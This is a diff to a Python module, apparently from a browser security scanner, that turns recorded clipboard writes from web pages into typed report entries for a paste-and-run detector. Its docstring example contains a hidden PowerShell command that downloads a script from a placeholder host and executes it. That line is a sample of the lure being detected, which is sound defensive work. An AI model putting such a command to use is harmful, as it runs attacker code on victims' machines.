@@ -1,7 +1,7 @@
 """``report.clipboard``: every text the page put in the clipboard, with what it would do.
 
 ``add_clipboard(report, capture)`` turns the recorded writes (``RawCapture.clipboard``; the
-scanner never touches the real clipboard) into report entries::
+scanner never touches the real clipboard) into report entries (``ClipboardEntry``)::
 
     {"text": "powershell -w h -c \\"iwr https://x.example/s.ps1 | iex\\"",
      "api": "clipboard.writeText", "url": "https://lure.example/", "script": "...",
@@ -13,11 +13,9 @@ hosts it would fetch, decoded layers). The verdict engine ``paste-and-run`` read
 
 from __future__ import annotations
 
-from typing import Any
-
 from spyglass.analyze.detect.commands import classify_command
 from spyglass.analyze.timestamps import iso_utc
-from spyglass.models import ClipboardWrite, RawCapture, Report
+from spyglass.models import ClipboardEntry, ClipboardWrite, RawCapture, Report
 
 
 def add_clipboard(report: Report, capture: RawCapture) -> None:
@@ -25,19 +23,19 @@ def add_clipboard(report: Report, capture: RawCapture) -> None:
     report.clipboard = [clipboard_entry(write) for write in capture.clipboard]
 
 
-def clipboard_entry(write: ClipboardWrite) -> dict[str, Any]:
+def clipboard_entry(write: ClipboardWrite) -> ClipboardEntry:
     """One recorded write as the report shows it.
 
     >>> e = clipboard_entry(ClipboardWrite(text="pip install requests", api="execCommand",
     ...                                    timestamp=1700000000.0))
-    >>> e["time"], e["classification"]["kind"], e["classification"]["dangerous"]
+    >>> e.time, e.classification.kind, e.classification.dangerous
     ('2023-11-14T22:13:20.000Z', 'text', False)
     """
-    return {
-        "text": write.text,
-        "api": write.api,
-        "url": write.url,
-        "script": write.script,
-        "time": iso_utc(write.timestamp) if write.timestamp is not None else None,
-        "classification": classify_command(write.text).model_dump(mode="json", by_alias=True),
-    }
+    return ClipboardEntry(
+        text=write.text,
+        api=write.api,
+        url=write.url,
+        script=write.script,
+        time=iso_utc(write.timestamp) if write.timestamp is not None else None,
+        classification=classify_command(write.text),
+    )
